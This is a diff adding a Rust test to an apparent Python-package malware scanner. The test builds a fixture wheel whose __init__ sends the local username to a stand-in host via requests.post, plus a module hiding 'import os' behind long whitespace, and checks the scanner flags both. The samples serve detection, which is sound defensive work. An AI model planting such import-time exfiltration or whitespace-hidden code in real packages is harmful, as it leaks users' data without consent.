@@ -250,3 +250,31 @@ fn payload_behind_a_large_test_suite_is_still_followed() {
     assert!(r.findings.iter().any(|f| f.rule == "py-import-download-exec" && f.path == "demo/tests/helpers.py"), "{:#?}", r.findings);
     assert_ne!(r.verdict, Verdict::Clean);
 }
+
+#[test]
+fn files_held_without_a_sink_are_parsed_once_the_package_has_one() {
+    // `__init__` and the host-details helper name nothing that acts, so they are held back
+    // unparsed; the network module makes the package one that can act, and the held files are
+    // analysed in full after all, whichever order the archive has: `__init__` sends what the
+    // helper collects through the network module's function.
+    let init = "from .util import host\nfrom . import net\nnet.send(host())\n";
+    let util = "import getpass\ndef host():\n    return getpass.getuser()\n";
+    let net = "import requests, getpass\ndef send(x):\n    requests.post('https://example.invalid/c', data=getpass.getuser())\n";
+    let threaded = Scanner::new(ScanConfig { member_threads: 2, ..ScanConfig::default() }).unwrap();
+    for order in [
+        [("demo/__init__.py", init), ("demo/util.py", util), ("demo/net.py", net)],
+        [("demo/net.py", net), ("demo/util.py", util), ("demo/__init__.py", init)],
+    ] {
+        for s in [scanner(), &threaded] {
+            let r = s.scan_bytes(&wheel(&order), "demo-1.0-py3-none-any.whl");
+            let f = r.findings.iter().find(|f| f.rule == "py-import-exfil-hostinfo").unwrap_or_else(|| panic!("{:#?}", r.findings));
+            assert_eq!((f.path.as_str(), f.line), ("demo/__init__.py", Some(3)));
+        }
+    }
+    // Without the network module nothing can act: no behaviour, but the text checks still ran.
+    let hidden = format!("X = 1{}import os\n", " ".repeat(200));
+    let data = wheel(&[("demo/__init__.py", init), ("demo/util.py", util), ("demo/pad.py", &hidden)]);
+    let r = scanner().scan_bytes(&data, "demo-1.0-py3-none-any.whl");
+    assert!(!rules_of(&r).iter().any(|x| x.starts_with("py-import")), "{:#?}", r.findings);
+    assert!(rules_of(&r).contains(&"py-hidden-code"), "{:#?}", r.findings);
+}
